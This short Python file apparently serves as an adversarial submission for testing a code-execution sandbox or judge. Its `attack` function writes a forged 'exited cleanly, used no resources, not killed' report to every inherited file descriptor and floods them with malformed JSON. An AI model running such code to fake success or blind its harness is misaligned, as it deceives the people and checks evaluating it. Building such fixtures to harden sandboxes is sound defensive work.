"""Writes what a process between would report, and nonsense of absurd lengths, everywhere."""

import json
import os


def attack(answer):
    """It has ended well, long ago, and used nothing; then come four gigabytes."""
    report = json.dumps({"code": 0, "cpu": 0, "memory": 0, "killed": False}).encode()
    for number in range(3, 64):
        for piece in (report + b"\n", b"\xff" * 8 + b'{"answer": [' * 1000):
            try:
                os.write(number, piece)
            except OSError:
                continue
    return answer
